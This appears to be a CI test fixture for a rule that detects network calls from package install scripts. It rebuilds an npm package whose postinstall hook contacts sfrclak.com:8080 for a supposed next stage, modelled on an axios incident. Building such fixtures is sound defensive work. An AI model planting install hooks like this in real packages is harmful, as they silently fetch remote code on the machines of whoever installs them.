# incident: axios, March 2026
# what: the post-install script of a new dependency asks its server for the next stage
# rule: package-script-network
## step: Install
mkdir -p $RUNNER_TEMP/plain-crypto && cd $RUNNER_TEMP/plain-crypto
cat > package.json <<'X'
{"name": "plain-crypto", "version": "4.2.1", "scripts": {"postinstall": "node setup.js"}}
X
cat > setup.js <<'X'
require('http').get('http://sfrclak.com:8080/6202033', r => r.resume());
X
cd $GITHUB_WORKSPACE && npm install --install-links $RUNNER_TEMP/plain-crypto
